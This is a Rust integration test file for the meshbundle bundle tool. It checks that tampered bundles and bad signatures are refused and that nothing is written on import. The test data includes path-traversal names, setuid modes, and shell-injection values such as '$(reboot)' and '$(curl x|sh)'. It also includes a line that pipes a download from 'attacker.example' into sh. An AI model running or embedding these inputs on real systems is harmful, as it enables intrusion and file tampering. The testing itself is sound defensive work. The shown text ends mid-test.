//! What `verify` accepts, and how it states a signature: re-sealed bundles
//! (SEAL.json rewritten, SEAL.sha256 recomputed, no signature) that ask for
//! paths outside the target, setuid or world-writable modes, an entry inside
//! another or digests that are no digests; archives with data after the end
//! marker or a cut head; files that are no bundle at all; and signatures
//! (damaged, empty, `none`, another key's, valid) under every way of giving a
//! trust policy. Everything runs the real binary on bundles it built offline
//! from the embedded lab example.

mod common;

use std::io::Read;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use base64::Engine;
use common::{bin, text};
use serde_json::Value;
use sha2::Digest as _;

/// Runs meshbundle in `dir` with no trust policy from the machine: the
/// config directory is an empty one of the test's own, the variable unset.
fn mb(dir: &Path, args: &[&str]) -> Output {
    mb_env(dir, args, &[])
}

fn mb_env(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut c = Command::new(bin());
    c.args(args)
        .current_dir(dir)
        .env("MESHBUNDLE_CONFIG_DIR", dir.join("no-config"))
        .env_remove("MESHBUNDLE_TRUSTED_KEYS");
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().expect("run meshbundle")
}

fn all(o: &Output) -> String {
    format!("{}{}", text(&o.stdout), text(&o.stderr))
}

fn sha256_hex(b: &[u8]) -> String {
    hex::encode(sha2::Sha256::digest(b))
}

/// Builds the lab example offline into `dir/NAME`, signed with `sign` if given.
fn build(dir: &Path, name: &str, sign: Option<&str>) {
    let mut args = vec!["build", "--example", "lab", "-o", name, "--cache", "cache", "--quiet"];
    if let Some(k) = sign {
        args.extend(["--sign", k]);
    }
    let o = mb(dir, &args);
    assert!(o.status.success(), "{}", all(&o));
}

/// Makes a key pair `dir/NAME.key`, `dir/NAME.pub`; returns the fingerprint keygen printed.
fn keygen(dir: &Path, name: &str) -> String {
    let o = mb(dir, &["keygen", "-o", name]);
    assert!(o.status.success(), "{}", all(&o));
    text(&o.stdout).trim().to_string()
}

/// The fingerprint of a `.pub` file, computed here: `SHA256:` and the
/// unpadded base64 of the sha256 of the 32 raw key bytes (the end of the SPKI DER).
fn fingerprint_of(pub_file: &Path) -> String {
    let pem = std::fs::read_to_string(pub_file).unwrap();
    let b64: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
    let der = base64::engine::general_purpose::STANDARD.decode(b64).unwrap();
    let raw = &der[der.len() - 32..];
    format!(
        "SHA256:{}",
        base64::engine::general_purpose::STANDARD_NO_PAD.encode(sha2::Sha256::digest(raw))
    )
}

type Entries = Vec<(tar::Header, Vec<u8>)>;

/// Environment variables for one run.
type Env<'a> = Vec<(&'a str, &'a str)>;

/// One way of giving a trust policy, and what it trusts.
struct Policy<'a> {
    what: &'a str,
    args: Vec<&'a str>,
    env: Env<'a>,
    trusts_release: bool,
    trusts_other: bool,
    /// How messages name where the policy came from.
    source: &'a str,
}

fn p<'a>(
    what: &'a str,
    args: Vec<&'a str>,
    env: Env<'a>,
    trusts_release: bool,
    trusts_other: bool,
    source: &'a str,
) -> Policy<'a> {
    Policy {
        what,
        args,
        env,
        trusts_release,
        trusts_other,
        source,
    }
}

fn entries(path: &Path) -> Entries {
    let mut a = tar::Archive::new(std::fs::File::open(path).unwrap());
    a.entries()
        .unwrap()
        .map(|e| {
            let mut e = e.unwrap();
            let h = e.header().clone();
            let mut v = Vec::new();
            e.read_to_end(&mut v).unwrap();
            (h, v)
        })
        .collect()
}

fn name_of(h: &tar::Header) -> String {
    String::from_utf8(h.path_bytes().into_owned()).unwrap()
}

/// A regular-file header whose name is written as given, unchecked.
fn raw_header(name: &str, size: u64, mode: u32) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
    h.set_entry_type(tar::EntryType::Regular);
    h.set_size(size);
    h.set_mode(mode);
    h.set_mtime(0);
    h.set_cksum();
    h
}

fn set_data(e: &mut (tar::Header, Vec<u8>), data: Vec<u8>) {
    e.0.set_size(data.len() as u64);
    e.0.set_cksum();
    e.1 = data;
}

/// Re-seals a bundle: the entries after the head as given (sorted by name),
/// the seal's `entries` recomputed from them, then `change` applied to the
/// seal, SEAL.sha256 recomputed, and no signature. The result is as
/// consistent as an attacker without the signing key can make it.
fn reseal(from: &Path, to: &Path, mut body: Entries, change: impl FnOnce(&mut Value)) {
    let list = entries(from);
    let mut seal: Value = serde_json::from_slice(&list[0].1).unwrap();
    body.sort_by_key(|(h, _)| name_of(h));
    seal["entries"] = body
        .iter()
        .map(|(h, d)| serde_json::json!({"path": name_of(h), "size": d.len(), "mode": h.mode().unwrap() & 0o7777, "sha256": sha256_hex(d)}))
        .collect();
    change(&mut seal);
    let mut head = list[0].clone();
    set_data(&mut head, serde_json::to_vec(&seal).unwrap());
    let mut sum = list[1].clone();
    set_data(&mut sum, format!("sha256:{}\n", sha256_hex(&head.1)).into_bytes());
    let mut b = tar::Builder::new(std::fs::File::create(to).unwrap());
    for (h, d) in [head, sum].iter().chain(body.iter()) {
        b.append(h, d.as_slice()).unwrap();
    }
    b.finish().unwrap();
}

/// The entries of a bundle after its head.
fn body(path: &Path) -> Entries {
    entries(path)
        .into_iter()
        .filter(|(h, _)| !name_of(h).starts_with("SEAL."))
        .collect()
}

fn verify_json(dir: &Path, file: &str, extra: &[&str]) -> (Option<i32>, Value) {
    let mut args = vec!["verify", file, "--format", "json"];
    args.extend(extra);
    let o = mb(dir, &args);
    (
        o.status.code(),
        serde_json::from_slice(&o.stdout).unwrap_or_else(|_| panic!("{file}: json: {}", all(&o))),
    )
}

/// Every file under `dir`, as paths relative to it.
fn listing(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in walkdir(dir) {
        out.push(e.strip_prefix(dir).unwrap().display().to_string());
    }
    out.sort();
    out
}

fn walkdir(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        out.push(p.clone());
        if p.is_dir() && !p.is_symlink() {
            out.extend(walkdir(&p));
        }
    }
    out
}

#[test]
fn resealed_hostile_seals_are_refused_naming_the_field_and_import_writes_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    build(d, "good.mbundle", None);
    let good = d.join("good.mbundle");
    let list = body(&good);
    let script = list
        .iter()
        .map(|(h, _)| name_of(h))
        .find(|n| n.ends_with("install.sh"))
        .unwrap();
    let zeros = format!("sha256:{}", "0".repeat(64));

    // (name, bundle, what verify must name)
    let mut cases: Vec<(String, Vec<&str>)> = Vec::new();
    let mut add = |name: &str, body: Entries, change: Box<dyn FnOnce(&mut Value)>, want: Vec<&'static str>| {
        reseal(&good, &d.join(format!("{name}.mbundle")), body, change);
        cases.push((name.to_string(), want));
    };

    // A differential bundle whose base names a file outside the target: the
    // file it would "keep" is `target/files/../../x`, which is `x` beside the target.
    let outside = b"precious data outside the target\n".to_vec();
    let sum = sha256_hex(&outside);
    let z = zeros.clone();
    add(
        "base-dotdot",
        list.clone(),
        Box::new(move |s| {
            s["files"]
                .as_array_mut()
                .unwrap()
                .push(serde_json::json!({"name": "../../x", "sha256": sum, "size": 33, "url": "https://x"}));
            s["base"] = serde_json::json!({"id": z, "blobs": [], "files": ["../../x"]});
        }),
        vec!["files[5].name", "../../x", "`..`"],
    );
    let z = zeros.clone();
    add(
        "base-only-dotdot",
        list.clone(),
        Box::new(move |s| s["base"] = serde_json::json!({"id": z, "blobs": [], "files": ["../../x"]})),
        vec!["base.files[0]", "../../x"],
    );
    let z = zeros.clone();
    add(
        "base-unknown-file",
        list.clone(),
        Box::new(move |s| s["base"] = serde_json::json!({"id": z, "blobs": [], "files": ["kubeadm"]})),
        vec!["base.files", "kubeadm", "not among the seal's files"],
    );
    add(
        "base-id-shell",
        list.clone(),
        Box::new(|s| s["base"] = serde_json::json!({"id": "$(reboot)", "blobs": [], "files": []})),
        vec!["base.id", "$(reboot)", "not a digest"],
    );
    let z = zeros.clone();
    add(
        "base-blob-shell",
        list.clone(),
        Box::new(move |s| s["base"] = serde_json::json!({"id": z, "blobs": ["sha256:$(id)"], "files": []})),
        vec!["base.blobs[0]", "$(id)"],
    );
    let z = zeros.clone();
    add(
        "image-manifest-dotdot",
        list.clone(),
        Box::new(move |s| {
            s["images"] = serde_json::json!([{"name": "docker.io/x/y:1", "site": "192.168.56.10:5000/x/y:1@".to_string() + &z,
                "digest": z, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "manifests": ["sha256:../../../etc/passwd"], "blobs": [], "size": 1}])
        }),
        vec!["images[0].manifests[0]", "../../../etc/passwd"],
    );
    // Image references and media types are read as their types: a
    // reference that is none, or not as meshbundle writes it, and a media
    // type that is no type/subtype are refused at their field.
    let image = |name: &str, site: &str, media_type: &str, z: &str| {
        serde_json::json!([{"name": name, "site": site, "digest": z, "mediaType": media_type,
            "manifests": [z], "blobs": [], "size": 1}])
    };
    const MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";
    for (case, name, site, media_type, want) in [
        (
            "image-name-shell",
            "docker.io/x/y:1$(reboot)",
            "192.168.56.10:5000/x/y:1@",
            MANIFEST,
            vec!["images[0].name", "$(reboot)", "not a valid image reference"],
        ),
        (
            "image-name-not-normalised",
            "x/y:1",
            "192.168.56.10:5000/x/y:1@",
            MANIFEST,
            vec!["images[0].name", "`docker.io/x/y:1`"],
        ),
        (
            "image-site-dotdot",
            "docker.io/x/y:1",
            "192.168.56.10:5000/../../y:1@",
            MANIFEST,
            vec!["images[0].site", "not a valid image reference"],
        ),
        (
            "image-media-type",
            "docker.io/x/y:1",
            "192.168.56.10:5000/x/y:1@",
            "application/$(id)",
            vec!["images[0].mediaType", "not a media type"],
        ),
    ] {
        let z = zeros.clone();
        let images = image(name, &format!("{site}{z}"), media_type, &z);
        add(case, list.clone(), Box::new(move |s| s["images"] = images), want);
    }
    add(
        "not-carried-image",
        list.clone(),
        Box::new(|s| s["notCarried"]["images"] = serde_json::json!(["docker.io/x/y:1", "y:1"])),
        vec!["notCarried.images[1]", "`docker.io/library/y:1`"],
    );
    add(
        "file-name-absolute",
        list.clone(),
        Box::new(|s| s["files"][0]["name"] = "/etc/shadow".into()),
        vec!["files[0].name", "/etc/shadow", "absolute"],
    );
    add(
        "file-sha256-upper",
        list.clone(),
        Box::new(|s| {
            let up = s["files"][0]["sha256"].as_str().unwrap().to_uppercase();
            s["files"][0]["sha256"] = up.into();
        }),
        vec!["files[0].sha256", "lower-case"],
    );
    add(
        "tree-digest-shell",
        list.clone(),
        Box::new(|s| s["treeDigest"] = format!("sha256:{}$(id)", "a".repeat(59)).into()),
        vec!["treeDigest", "$(id)"],
    );

    // Entry sha256s that are no digests, with the entry named.
    for (name, value) in [("entry-sha256-upper", "UPPER"), ("entry-sha256-shell", "$(curl x|sh)")] {
        let script = script.clone();
        let value = value.to_string();
        add(
            name,
            list.clone(),
            Box::new(move |s| {
                for e in s["entries"].as_array_mut().unwrap() {
                    if e["path"] == script.as_str() {
                        let v = if value == "UPPER" {
                            e["sha256"].as_str().unwrap().to_uppercase()
                        } else {
                            value.clone()
                        };
                        e["sha256"] = v.into();
                    }
                }
            }),
            vec!["entries[", "tree/install.sh: sha256"],
        );
    }

    // Modes the archive and the seal agree on, but meshbundle never writes.
    for (name, mode, why) in [
        ("mode-setuid", 0o4755, "setuid"),
        ("mode-0666", 0o666, "writable by anyone"),
        ("mode-0777", 0o777, "writable by anyone"),
    ] {
        let mut b = list.clone();
        let i = b.iter().position(|(h, _)| name_of(h) == script).unwrap();
        b[i].0.set_mode(mode);
        b[i].0.set_cksum();
        add(
            name,
            b,
            Box::new(|_| {}),
            vec!["entries[", "tree/install.sh: mode", why],
        );
    }

    // An entry path with `..` in the seal (and an archive entry of that name).
    let mut b = list.clone();
    b.push((raw_header("tree/../../evil.sh", 3, 0o755), b"id\n".to_vec()));
    add(
        "entry-dotdot",
        b,
        Box::new(|_| {}),
        vec!["entries[", "tree/../../evil.sh", "`..`"],
    );

    // `tree/zz` a file and `tree/zz/b` inside it.
    let mut b = list.clone();
    b.push((raw_header("tree/zz", 2, 0o644), b"a\n".to_vec()));
    b.push((raw_header("tree/zz/b", 2, 0o644), b"b\n".to_vec()));
    add(
        "entry-inside-entry",
        b,
        Box::new(|_| {}),
        vec!["entries: tree/zz/b", "inside the entry `tree/zz`"],
    );

    // Sanity: the same re-sealing with no change is accepted.
    reseal(&good, &d.join("plain.mbundle"), list.clone(), |_| {});
    let (code, v) = verify_json(d, "plain.mbundle", &[]);
    assert_eq!((code, &v["ok"]), (Some(0), &Value::Bool(true)), "{v}");

    for (name, want) in &cases {
        let file = format!("{name}.mbundle");
        let o = mb(d, &["verify", &file]);
        let out = text(&o.stdout);
        assert_eq!(o.status.code(), Some(1), "{name}: verify must refuse: {}", all(&o));
        assert!(
            out.starts_with(&format!("{file}: BAD: SEAL.json: ")),
            "{name}: the seal is named: {out}"
        );
        for w in want {
            assert!(out.contains(w), "{name}: expected `{w}` in: {out}");
        }
        assert_eq!(out.lines().count(), 1, "{name}: {out}");
        let (code, v) = verify_json(d, &file, &[]);
        assert_eq!(
            (code, v["ok"].as_bool(), v["error"]["entry"].as_str()),
            (Some(1), Some(false), Some("SEAL.json")),
            "{name}: {v}"
        );

        // Import over a target the good bundle was laid out in (as a
        // differential bundle is); beside it, a file the base would "keep":
        // `target/files/../../x` is `x`.
        let case = d.join(format!("{name}.site"));
        std::fs::create_dir_all(&case).unwrap();
        std::fs::write(case.join("x"), &outside).unwrap();
        let target = case.join("target");
        let o = mb(
            d,
            &[
                "import",
                "good.mbundle",
                "--quiet",
                "--extract",
                target.to_str().unwrap(),
            ],
        );
        assert!(o.status.success(), "{}", all(&o));
        let before: Vec<(String, Vec<u8>)> = listing(&case)
            .into_iter()
            .map(|p| (p.clone(), std::fs::read(case.join(&p)).unwrap_or_default()))
            .collect();
        let o = mb(d, &["import", &file, "--quiet", "--extract", target.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(1), "{name}: import must refuse: {}", all(&o));
        assert!(text(&o.stdout).contains("SEAL.json"), "{name}: {}", all(&o));
        assert_eq!(
            std::fs::read(case.join("x")).unwrap(),
            outside,
            "{name}: the file outside is untouched"
        );
        let after: Vec<(String, Vec<u8>)> = listing(&case)
            .into_iter()
            .map(|p| (p.clone(), std::fs::read(case.join(&p)).unwrap_or_default()))
            .collect();
        assert!(before == after, "{name}: nothing written at all");
        // And into a new directory: nothing made.
        let fresh = case.join("fresh");
        let o = mb(d, &["import", &file, "--quiet", "--extract", fresh.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(1), "{name}: {}", all(&o));
        assert!(!fresh.exists(), "{name}: nothing laid out");
        assert!(!d.join("etc").exists() && !d.join("evil.sh").exists(), "{name}");
    }
}

#[test]
fn archive_framing_trailing_data_cut_heads_and_damaged_headers() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    build(d, "good.mbundle", None);
    let good = std::fs::read(d.join("good.mbundle")).unwrap();
    assert_eq!(
        &good[good.len() - 1024..],
        &[0u8; 1024][..],
        "a bundle ends with two zero blocks"
    );

    let seal_size = entries(&d.join("good.mbundle"))[0].1.len();
    let mut cases: Vec<(&str, Vec<u8>, &str, &str)> = Vec::new();
    // Data after the end-of-archive marker: junk, and a whole tar entry.
    let mut junk = good.clone();
    junk.extend_from_slice(b"#!/bin/sh\ncurl http://attacker.example | sh\n");
    cases.push((
        "junk-after-end",
        junk,
        "(end of archive)",
        "after the end-of-archive marker",
    ));
    let mut more = good.clone();
    let mut extra = tar::Builder::new(Vec::new());
    extra
        .append(&raw_header("tree/evil.sh", 3, 0o755), &b"id\n"[..])
        .unwrap();
    more.extend_from_slice(&extra.into_inner().unwrap());
    cases.push((
        "entry-after-end",
        more,
        "(end of archive)",
        "after the end-of-archive marker",
    ));
    let mut zeros = good.clone();
    zeros.extend_from_slice(&[0u8; 512]);
    cases.push((
        "zeros-after-end",
        zeros,
        "(end of archive)",
        "512 bytes of data after the end-of-archive marker",
    ));
    // No end marker at all: cut right after the last entry.
    cases.push((
        "no-end-marker",
        good[..good.len() - 1024].to_vec(),
        "(end of archive)",
        "truncated",
    ));
    cases.push((
        "half-end-marker",
        good[..good.len() - 512].to_vec(),
        "(end of archive)",
        "truncated",
    ));
    // Cut inside SEAL.json's data, and inside its header.
    cases.push((
        "cut-seal",
        good[..512 + seal_size / 2].to_vec(),
        "SEAL.json",
        "truncated",
    ));
    cases.push((
        "cut-seal-header",
        good[..300].to_vec(),
        "SEAL.json",
        "damaged or cut header",
    ));
    // Cut inside SEAL.sha256's header; a damaged SEAL.sha256 header.
    let sum_at = 512 + seal_size.div_ceil(512) * 512;
    cases.push((
        "cut-sum-header",
        good[..sum_at + 100].to_vec(),
        "SEAL.sha256",
        "damaged or cut header",
    ));
    let mut bad_sum = good.clone();
    bad_sum[sum_at + 150] ^= 0x55; // inside the header's checksum-covered fields
    cases.push(("damaged-sum-header", bad_sum, "SEAL.sha256", "damaged or cut header"));

    for (name, bytes, entry, why) in &cases {
        let file = format!("{name}.mbundle");
        std::fs::write(d.join(&file), bytes).unwrap();
        let o = mb(d, &["verify", &file]);
        let out = text(&o.stdout);
        assert_eq!(o.status.code(), Some(1), "{name}: {}", all(&o));
        assert!(
            out.contains(&format!("BAD: {entry}: ")) && out.contains(why),
            "{name}: expected `{entry}` and `{why}` in: {out}"
        );
        let (_, v) = verify_json(d, &file, &[]);
        assert_eq!(v["error"]["entry"].as_str(), Some(*entry), "{name}: {v}");
        let o = mb(d, &["import", &file, "--quiet", "--extract", "out"]);
        assert_eq!(o.status.code(), Some(1), "{name}: {}", all(&o));
        assert!(!d.join("out").exists(), "{name}");
    }
}

#[test]
fn files_that_are_no_bundle_are_said_so_in_one_plain_line() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("site.yaml"), meshbundle_core::examples::example("lab").unwrap()).unwrap();
    std::fs::write(d.join("empty.mbundle"), b"").unwrap();
    std::fs::create_dir(d.join("a-directory")).unwrap();
    let mut t = tar::Builder::new(Vec::new());
    t.append(&raw_header("hello.txt", 3, 0o644), &b"hi\n"[..]).unwrap();
    std::fs::write(d.join("other.tar"), t.into_inner().unwrap()).unwrap();
    let cases = [
        ("site.yaml", "not a meshbundle bundle"),
        ("empty.mbundle", "not a meshbundle bundle"),
        ("a-directory", "not a meshbundle bundle"),
        ("other.tar", "not a meshbundle bundle"),
        ("missing.mbundle", "no such file"),
    ];
    for (file, phrase) in cases {
        for cmd in [
            vec!["verify", file],
            vec!["inspect", file],
            vec!["import", file, "--quiet", "--extract", "out"],
        ] {
            let o = mb(d, &cmd);
            let out = all(&o);
            assert_eq!(o.status.code(), Some(1), "{cmd:?}: {out}");
            assert_eq!(out.trim().lines().count(), 1, "{cmd:?}: one line: {out}");
            assert!(out.contains(&format!("{file}: {phrase}")), "{cmd:?}: {out}");
            for internal in [
                "numeric field",
                "checksum",
                "os error",
                "(start)",
                "unexpected",
                "BAD",
                "hint",
            ] {
                assert!(!out.contains(internal), "{cmd:?}: no `{internal}`: {out}");
            }
            assert!(!d.join("out").exists());
        }
        let (code, v) = verify_json(d, file, &[]);
        assert_eq!((code, v["ok"].as_bool()), (Some(1), Some(false)), "{v}");
        assert!(v["error"]["message"].as_str().unwrap().contains(phrase), "{v}");
    }
}

/// Writes a copy of `from` whose SEAL.json.sig holds `sig` (added after SEAL.sha256 if absent).
fn with_signature(from: &Path, to: &Path, sig: &[u8]) {
    let mut list = entries(from);
    match list.iter().position(|(h, _)| name_of(h) == "SEAL.json.sig") {
        Some(i) => set_data(&mut list[i], sig.to_vec()),
        None => {
            let mut h = list[1].0.clone();
            h.set_path("SEAL.json.sig").unwrap();
            let mut e = (h, Vec::new());
            set_data(&mut e, sig.to_vec());
            list.insert(2, e);
        }
    }
    let mut b = tar::Builder::new(std::fs::File::create(to).unwrap());
    for (h, data) in &list {
        b.append(h, data.as_slice()).unwrap();
    }
    b.finish().unwrap();
}

fn sig_of(path: &Path) -> Vec<u8> {
    entries(path)
        .into_iter()
        .find(|(h, _)| name_of(h) == "SEAL.json.sig")
        .unwrap()
        .1
}

#[test]
fn signature_states_and_bad_signatures_without_a_key() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let release = keygen(d, "release");
    let other = keygen(d, "other");
    assert_eq!(
        release,
        fingerprint_of(&d.join("release.pub")),
        "keygen prints the fingerprint of the raw key"
    );
    assert_ne!(release, other);
    build(d, "unsigned.mbundle", None);
    build(d, "signed.mbundle", Some("release.key"));
    build(d, "other.mbundle", Some("other.key"));

    // Unsigned.
    let o = mb(d, &["verify", "unsigned.mbundle"]);
    assert!(
        o.status.success() && text(&o.stdout).contains("signature: unsigned"),
        "{}",
        all(&o)
    );
    let (_, v) = verify_json(d, "unsigned.mbundle", &[]);
    assert_eq!(v["signature"]["state"], "unsigned", "{v}");
    // Signed, not checked: the key it claims, marked unchecked.
    let o = mb(d, &["verify", "signed.mbundle"]);
    let out = text(&o.stdout);
    assert!(o.status.success(), "{}", all(&o));
    assert!(
        out.contains("signature: signed, not checked") && out.contains(&release) && out.contains("unchecked"),
        "{out}"
    );
    let (_, v) = verify_json(d, "signed.mbundle", &[]);
    assert_eq!(
        (v["signature"]["state"].as_str(), v["signature"]["claimedKey"].as_str()),
        (Some("unchecked"), Some(release.as_str()))
    );
    // Signed by the key given: verified, with its fingerprint.
    let o = mb(d, &["verify", "signed.mbundle", "--key", "release.pub"]);
    assert!(o.status.success(), "{}", all(&o));
    assert!(
        text(&o.stdout).contains(&format!("signature: signed by key {release}, verified")),
        "{}",
        all(&o)
    );
    let (_, v) = verify_json(d, "signed.mbundle", &["--key", "release.pub"]);
    assert_eq!(
        (v["signature"]["state"].as_str(), v["signature"]["key"].as_str()),
        (Some("verified"), Some(release.as_str()))
    );
    // inspect states it too, from the seal alone.
    let o = mb(d, &["inspect", "signed.mbundle"]);
    assert!(
        text(&o.stdout).contains(&format!("signature  signed, not checked: it claims key {release}")),
        "{}",
        all(&o)
    );
    let o = mb(d, &["inspect", "unsigned.mbundle", "--format", "json"]);
    let v: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["signature"]["state"], "unsigned");

    // Signatures that are errors with or without a key.
    let good_sig: Value = serde_json::from_slice(&sig_of(&d.join("signed.mbundle"))).unwrap();
    let mut flipped = good_sig.clone();
    let s = flipped["signature"].as_str().unwrap();
    let changed = format!("{}{}", if s.starts_with('A') { "B" } else { "A" }, &s[1..]);
    flipped["signature"] = changed.into();
    let mut wrong_alg = good_sig.clone();
    wrong_alg["algorithm"] = "none".into();
    let mut short = good_sig.clone();
    short["signature"] = "AAAA".into();
    let mut swapped_key = good_sig.clone();
    swapped_key["publicKey"] =
        serde_json::from_slice::<Value>(&sig_of(&d.join("other.mbundle"))).unwrap()["publicKey"].clone();
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "damaged",
            serde_json::to_vec(&flipped).unwrap(),
            "does not match the seal",
        ),
        (
            "garbled",
            b"{\"algorithm\":\"ed25519\",\"publ".to_vec(),
            "not a signature",
        ),
        ("empty", Vec::new(), "empty"),
        ("none", b"none".to_vec(), "not a signature"),
        ("alg-none", serde_json::to_vec(&wrong_alg).unwrap(), "not ed25519"),
        ("short", serde_json::to_vec(&short).unwrap(), "not 64 bytes"),
        // Another key's signature over another seal, and a signature relabelled with another key.
        ("another-seal", Vec::new(), "does not match the seal"),
        (
            "relabelled",
            serde_json::to_vec(&swapped_key).unwrap(),
            "does not match the seal",
        ),
    ];
    // The lab seal is the same whoever signs it: another key's signature over another seal comes from another example.
    let other_sig_on_other_seal = {
        let o = mb(
            d,
            &[
                "build",
                "--example",
                "production",
                "-o",
                "prod.mbundle",
                "--cache",
                "cache",
                "--quiet",
                "--sign",
                "other.key",
            ],
        );
        assert!(o.status.success(), "{}", all(&o));
        sig_of(&d.join("prod.mbundle"))
    };
    for (name, sig, why) in cases {
        let sig = if name == "another-seal" {
            other_sig_on_other_seal.clone()
        } else {
            sig
        };
        let file = format!("sig-{name}.mbundle");
        with_signature(&d.join("signed.mbundle"), &d.join(&file), &sig);
        for key in [None, Some("release.pub"), Some("other.pub")] {
            let mut args = vec!["verify", file.as_str()];
            if let Some(k) = key {
                args.extend(["--key", k]);
            }
            let o = mb(d, &args);
            let out = text(&o.stdout);
            assert_eq!(o.status.code(), Some(1), "{name} {key:?}: {}", all(&o));
            assert!(
                out.contains("BAD: SEAL.json.sig: ") && out.contains(why),
                "{name} {key:?}: expected `{why}` in: {out}"
            );
        }
        let o = mb(d, &["inspect", &file]);
        assert_eq!(o.status.code(), Some(1), "{name}: inspect: {}", all(&o));
        assert!(all(&o).contains("SEAL.json.sig"), "{name}: {}", all(&o));
        let o = mb(d, &["import", &file, "--quiet", "--extract", "out"]);
        assert_eq!(o.status.code(), Some(1), "{name}: import: {}", all(&o));
        assert!(!d.join("out").exists());
    }
}

#[test]
fn trust_policy_from_flags_directories_the_variable_and_the_config_directory() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let release = keygen(d, "release");
    let other = keygen(d, "other");
    build(d, "unsigned.mbundle", None);
    build(d, "signed.mbundle", Some("release.key"));
    build(d, "other.mbundle", Some("other.key"));
    std::fs::create_dir(d.join("keys")).unwrap();
    std::fs::copy(d.join("release.pub"), d.join("keys/release.pub")).unwrap();
    std::fs::copy(d.join("other.pub"), d.join("keys/backup.pub")).unwrap();
    std::fs::write(d.join("keys/README"), "not a key, and not read\n").unwrap();
    std::fs::create_dir(d.join("other-only")).unwrap();
    std::fs::copy(d.join("other.pub"), d.join("other-only/other.pub")).unwrap();
    let cfg = d.join("cfg");
    std::fs::create_dir_all(cfg.join("trusted-keys")).unwrap();
    std::fs::copy(d.join("release.pub"), cfg.join("trusted-keys/release.pub")).unwrap();
    let cfg_s = cfg.to_str().unwrap();

    // How the policy is given (args, env), whether it trusts release and other, and its name in messages.
    let policies: Vec<Policy> = vec![
        p(
            "one key",
            vec!["--key", "release.pub"],
            vec![],
            true,
            false,
            "--key release.pub",
        ),
        p(
            "two keys",
            vec!["--key", "other.pub", "--key", "release.pub"],
            vec![],
            true,
            true,
            "--key other.pub --key release.pub",
        ),
        p("key directory", vec!["--key", "keys"], vec![], true, true, "--key keys"),
        p(
            "directory of another key",
            vec!["--key", "other-only"],
            vec![],
            false,
            true,
            "--key other-only",
        ),
        p(
            "variable",
            vec![],
            vec![("MESHBUNDLE_TRUSTED_KEYS", "other.pub:keys")],
            true,
            true,
            "MESHBUNDLE_TRUSTED_KEYS",
        ),
        p(
            "variable, one file",
            vec![],
            vec![("MESHBUNDLE_TRUSTED_KEYS", "other.pub")],
            false,
            true,
            "MESHBUNDLE_TRUSTED_KEYS=other.pub",
        ),
        p(
            "config directory",
            vec![],
            vec![("MESHBUNDLE_CONFIG_DIR", cfg_s)],
            true,
            false,
            "trusted-keys",
        ),
        // The flag wins over the variable, and the variable over the config directory.
        p(
            "flag over variable",
            vec!["--key", "other.pub"],
            vec![("MESHBUNDLE_TRUSTED_KEYS", "release.pub")],
            false,
            true,
            "--key other.pub",
        ),
        p(
            "variable over config",
            vec![],
            vec![
                ("MESHBUNDLE_TRUSTED_KEYS", "other.pub"),
                ("MESHBUNDLE_CONFIG_DIR", cfg_s),
            ],
            false,
            true,
            "MESHBUNDLE_TRUSTED_KEYS",
        ),
    ];
    for Policy {
        what,
        args,
        env,
        trusts_release,
        trusts_other,
        source,
    } in &policies
    {
        for (bundle, trusted, fp) in [
            ("signed.mbundle", *trusts_release, &release),
            ("other.mbundle", *trusts_other, &other),
        ] {
            let mut all_args = vec!["verify", bundle];
            all_args.extend(args);
            let o = mb_env(d, &all_args, env);
            let out = text(&o.stdout);
            if trusted {
                assert!(o.status.success(), "{what}, {bundle}: {}", all(&o));
                assert!(
                    out.contains(&format!("signature: signed by key {fp}, verified")),
                    "{what}, {bundle}: {out}"
                );
            } else {
                assert_eq!(o.status.code(), Some(1), "{what}, {bundle}: {}", all(&o));
                assert!(
                    out.contains("BAD: SEAL.json.sig: signed by another key"),
                    "{what}, {bundle}: {out}"
                );
                assert!(
                    out.contains(fp.as_str()) && out.contains(source),
                    "{what}, {bundle}: names the signer and the policy: {out}"
                );
            }
        }
        let mut all_args = vec!["verify", "unsigned.mbundle"];
        all_args.extend(args);
        let o = mb_env(d, &all_args, env);
        assert_eq!(o.status.code(), Some(1), "{what}: unsigned: {}", all(&o));
        assert!(
            text(&o.stdout).contains("unsigned") && text(&o.stdout).contains(source),
            "{what}: {}",
            all(&o)
        );
    }
    // No policy at all (the config directory absent): unsigned and unchecked are fine.
    for b in ["unsigned.mbundle", "signed.mbundle", "other.mbundle"] {
        let o = mb(d, &["verify", b]);
        assert!(o.status.success(), "{b}: {}", all(&o));
    }
}

#[test]
fn import_with_a_policy_refuses_unsigned_and_foreign_bundles_and_states_the_signature() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let release = keygen(d, "release");
    let other = keygen(d, "other");
    build(d, "unsigned.mbundle", None);
    build(d, "signed.mbundle", Some("release.key"));
    build(d, "other.mbundle", Some("other.key"));
    let cfg = d.join("cfg");
    std::fs::create_dir_all(cfg.join("trusted-keys")).unwrap();
    std::fs::copy(d.join("release.pub"), cfg.join("trusted-keys/release.pub")).unwrap();
    let cfg_s = cfg.to_str().unwrap();

    let policies: Vec<(Vec<&str>, Env)> = vec![
        (vec!["--key", "release.pub"], vec![]),
        (vec![], vec![("MESHBUNDLE_TRUSTED_KEYS", "release.pub")]),
        (vec![], vec![("MESHBUNDLE_CONFIG_DIR", cfg_s)]),
    ];
    for (args, env) in &policies {
        for (bundle, why) in [
            ("unsigned.mbundle", ["unsigned", "accepts only bundles signed"]),
